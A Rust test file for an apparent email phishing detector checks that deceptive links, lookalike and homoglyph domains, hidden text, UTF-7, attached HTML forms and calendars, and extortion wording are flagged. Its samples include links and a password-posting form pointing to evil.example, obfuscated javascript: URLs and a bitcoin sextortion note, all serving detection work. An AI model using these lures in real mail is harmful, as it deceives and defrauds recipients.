//! Rows RX-01, TXT-01 and TXT-02 of the attack list, on whole messages: nothing panics, nothing
//! is left out in silence, and hiding is seen. Properties hold for any text.

use posthouse_content::{
    AsfFacts, CodeLimits, Content, ContentContext, FINDINGS, Protected, html, measure, wording,
};
use posthouse_mime::{MimeLimits, read};
use posthouse_types::{Concern, Force, Language};
use proptest::prelude::*;

fn measured(message: &[u8]) -> Content {
    let protected = Protected::new(
        [("Erika Mustermann", "erika@contoso.com")],
        ["contoso.com"],
        ["fabrikam.com"],
    );
    let context = ContentContext {
        protected: &protected,
        has_corresponded: None,
        asf: AsfFacts::default(),
        codes: CodeLimits::default(),
    };
    measure(&read(message, &MimeLimits::default()), &context)
}

fn ids(message: &str) -> Vec<&'static str> {
    measured(message.as_bytes()).findings.iter().map(|finding| finding.kind.id).collect()
}

fn page(inside: &str) -> String {
    format!(
        "From: a <a@sender.example>\nSubject: x\nMIME-Version: 1.0\n\
         Content-Type: text/html; charset=utf-8\n\n{inside}\n"
    )
}

#[test]
fn the_sentence_of_the_specification_is_said() {
    let mail = page("<a href='https://evil.example/x'>https://www.paypal.com/</a>");
    let content = measured(mail.as_bytes());
    let link = content.findings.iter().find(|it| it.kind.id == "link-says-brand").unwrap();
    assert_eq!(
        link.sentence(Language::English),
        "The link says www.paypal.com and goes to evil.example."
    );
    assert_eq!(
        link.sentence(Language::German),
        "Der Link zeigt www.paypal.com und führt zu evil.example."
    );
}

#[test]
fn url_01_each_trick_is_a_finding_of_the_message() {
    for (inside, id) in [
        ("<a href='https://www.bank.example@evil.example/'>x</a>", "url-userinfo"),
        ("<a href='http://192.0.2.9/login'>x</a>", "url-numeric"),
        ("<a href='http://3221226017/'>x</a>", "url-odd-number"),
        ("<a href='http://0xc0.0x0.0x2.0x21/'>x</a>", "url-odd-number"),
        ("<a href='https:\\\\evil.example\\x'>x</a>", "url-obfuscated"),
        ("<a href='ht&#9;tps://evil.example/'>x</a>", "url-obfuscated"),
        ("<a href='https://ev&#8203;il.example/'>x</a>", "url-obfuscated"),
        ("<a href='https://%65vil.example/'>x</a>", "url-obfuscated"),
        ("<a href='https://p&#1072;ypal.com/'>x</a>", "url-mixed-scripts"),
        ("<a href='https://m&uuml;nchen.example/'>x</a>", "url-punycode"),
        ("<a href='https://c0ntoso.com/'>x</a>", "url-lookalike"),
        ("<a href='https://paypal.com.evil.example/'>x</a>", "url-lookalike"),
        ("<a href='https://secure-paypal.evil.example/'>x</a>", "url-brand-in-host"),
        ("<a href='https://evil.example/paypal/login.php'>x</a>", "url-brand-in-path"),
        ("<a href='https://bit.ly/x'>x</a>", "url-shortener"),
        ("<a href='https://www.google.com/url?q=https://evil.example'>x</a>", "url-redirect"),
        ("<a href='https://x.pages.dev/'>x</a>", "url-anybodys-page"),
        ("<a href='data:text/html;base64,PGI+'>x</a>", "url-data"),
        ("<a href='java&#10;script:go()'>x</a>", "url-script"),
        ("<a href='https://evil.example:4443/'>x</a>", "url-port"),
        ("<base href='https://evil.example/'><a href='login'>x</a>", "base-elsewhere"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>x", "page-leaves"),
        ("<form action=https://evil.example/><input type=password></form>", "password-in-mail"),
    ] {
        assert!(ids(&page(inside)).contains(&id), "{id}: {inside}");
    }
}

#[test]
fn url_01_a_good_link_says_nothing() {
    for inside in [
        "<a href='https://www.example.com/x?y=1'>Example</a>",
        "<a href='https://www.paypal.com/'>www.paypal.com</a>",
        "<a href='https://click.shop.example/?u=https://shop.example/'>shop.example</a>",
        "<p>Ask me at http://localhost:3000 or 10.0.0.1.</p>",
    ] {
        let found: Vec<_> =
            ids(&page(inside)).into_iter().filter(|it| *it != "url-redirect").collect();
        assert!(found.is_empty(), "{found:?}: {inside}");
    }
}

#[test]
fn txt_01_utf_7_is_said() {
    let mail = "From: a@b.example\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-x\n";
    let content = measured(mail.as_bytes());
    assert!(content.findings.iter().any(|it| it.kind.id == "text-in-utf-7"));
}

#[test]
fn txt_01_letters_of_other_scripts_and_invisible_ones_are_said() {
    let mixed = page("Yоur раssword hаs expired, plеase verify now");
    assert!(ids(&mixed).contains(&"mixed-script-words"));
    let broken = page("Pass&#8203;word ex&#8203;pired ver&#8203;ify");
    assert!(ids(&broken).contains(&"invisible-in-words"));
    let honest = page("Добрый день, отправляю отчёт. Grüße, Müller. 会議の資料です");
    assert!(ids(&honest).is_empty());
}

#[test]
fn txt_02_a_third_of_hidden_text_is_said_with_both_samples() {
    let filler = "A story about gardening and the weather in spring. ".repeat(12);
    let mail = page(&format!("<p>Pay now</p><div style='font-size:0'>{filler}</div>"));
    let content = measured(mail.as_bytes());
    let hidden = content.findings.iter().find(|it| it.kind.id == "hidden-text").unwrap();
    let said = hidden.sentence(Language::English);
    assert!(said.contains("Pay now") && said.contains("A story about"), "{said}");
    // A preview line is no trick.
    let mail = page(&format!("<div style='display:none'>Your order</div><p>{filler}</p>"));
    assert!(!ids(&mail).contains(&"hidden-text"));
}

#[test]
fn rx_01_a_long_run_of_one_letter_is_nothing_special() {
    let mail = page(&format!("<p>{}</p>", "a".repeat(1_000_000)));
    assert!(!ids(&mail).contains(&"wording-credentials"));
    let mail = page(&"password verify account ".repeat(100_000));
    // More than is read: said, and still judged.
    assert!(ids(&mail).contains(&"content-limit"));
}

#[test]
fn rx_01_more_links_than_are_kept_are_said() {
    let mail = page(&"<a href=https://a.example/>x</a>".repeat(5_000));
    let content = measured(mail.as_bytes());
    assert!(content.urls.len() <= 3_000);
    assert!(content.findings.iter().any(|it| it.kind.id == "content-limit"));
}

#[test]
fn attached_pages_and_calendars_are_read() {
    let mail = "From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n\
        --b\nContent-Type: text/plain\n\nSee attached, password: 4711\n\
        --b\nContent-Type: application/octet-stream; name=\"scan.htm\"\nContent-Disposition: attachment; filename=\"scan.htm\"\n\n\
        <form action=https://evil.example/p><input type=password></form><script>location.href='x'</script>\n\
        --b\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VEVENT\nDESCRIPTION:Join https://evil.exam\n ple/join\nEND:VEVENT\n\
        --b\nContent-Type: application/zip; name=a.zip\nContent-Disposition: attachment; filename=a.zip\n\nPK\n--b--\n";
    let found = ids(mail);
    for id in [
        "attached-page-sends-password",
        "attached-page-script",
        "attached-page-leaves",
        "calendar-link",
        "archive-password-in-text",
    ] {
        assert!(found.contains(&id), "{id}: {found:?}");
    }
    assert_eq!(measured(mail.as_bytes()).passwords, ["4711"]);
}

#[test]
fn url_01_links_of_an_attached_pdf_are_judged_like_others() {
    let mail = |link: &str| {
        format!(
            "From: a@b.example\nSubject: x\nMIME-Version: 1.0\n\
             Content-Type: application/octet-stream; name=a.pdf\n\
             Content-Disposition: attachment; filename=a.pdf\n\n\
             %PDF-1.7\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI({link})>>>>endobj\n"
        )
    };
    for (link, id) in [
        ("https://www.bank.example@evil.example/", "url-userinfo"),
        ("http://192.0.2.9/login", "url-numeric"),
        ("https://paypal.com.evil.example/", "url-lookalike"),
        ("https://bit.ly/x", "url-shortener"),
    ] {
        assert!(ids(&mail(link)).contains(&id), "{id}: {link}");
    }
    let content = measured(mail("https://a.example/?u=https://b.example/").as_bytes());
    let hosts: Vec<String> = content.urls.iter().map(|url| url.host.shown()).collect();
    assert_eq!(hosts, ["a.example", "b.example"], "block lists see both");
    assert!(ids(&mail("https://www.example.com/invoice")).is_empty());
}

#[test]
fn extortion_with_a_wallet_weighs_enough_alone() {
    let mail = "From: a@b.example\nSubject: pay\n\nI recorded you and have access to all your contacts. \
        Send 900 USD in bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT. You have 48 hours.\n";
    let sum: f32 = measured(mail.as_bytes()).findings.iter().map(|it| it.weight()).sum();
    assert!(sum > 4.0, "{sum}");
}

#[test]
fn every_kind_has_an_id_in_kebab_case_and_a_weight_that_makes_sense() {
    for kind in FINDINGS {
        assert!(
            kind.id
                .bytes()
                .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
        );
        if let Force::Weight(weight) = kind.force {
            assert!((0.0..=5.0).contains(&weight), "{}", kind.id);
            assert_ne!(kind.concern, Concern::Trust, "{}", kind.id);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn rx_01_no_text_makes_the_reader_panic_or_work_more_than_its_length(
        pieces in proptest::collection::vec(
            prop_oneof![
                Just("<"), Just("<a href="), Just("'"), Just("\""), Just(">"), Just("<!--"),
                Just("-->"), Just("</"), Just("<style>.a{color:#fff"), Just("}"), Just("</style>"),
                Just("<table><tr><td bgcolor=#000>"), Just("&#x"), Just("&amp"), Just("http://"),
                Just("\u{202e}"), Just("\u{200b}"), Just("ü"), Just("@"), Just("%"), Just("\\"),
                Just("xn--"), Just("0x7f.1"), Just("█▀▄\n"), Just("password: "), Just("1"), Just(" "),
            ],
            0..400,
        )
    ) {
        let text = pieces.concat();
        let read = html::read(&text);
        prop_assert!(read.steps <= 4 * text.len() + 16);
        let content = measured(page(&text).as_bytes());
        for finding in &content.findings {
            prop_assert!(finding.weight().is_finite());
            let _ = finding.sentence(Language::German);
        }
    }

    #[test]
    fn any_text_at_all_is_read(text in "\\PC{0,300}", display in "\\PC{0,60}") {
        let _ = wording::measure(&display, &text);
        let _ = wording::passwords(&text);
        let _ = measured(format!("From: \"{display}\" <{text}>\nReply-To: {display}\nSubject: {text}\n\n{text}\n").as_bytes());
    }

    #[test]
    fn any_octets_at_all_are_read(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let _ = measured(&bytes);
        for head in [&b"\x89PNG\r\n\x1a\n"[..], b"GIF89a", b"BM", b"%PDF-1.4 1 0 obj<</Subtype/Image/Width 40/Height 40/Filter/FlateDecode>>stream\n"] {
            let mut mail = b"From: a@b.example\nContent-Type: application/octet-stream\n\n".to_vec();
            mail.extend_from_slice(head);
            mail.extend_from_slice(&bytes);
            let _ = measured(&mail);
        }
    }
}
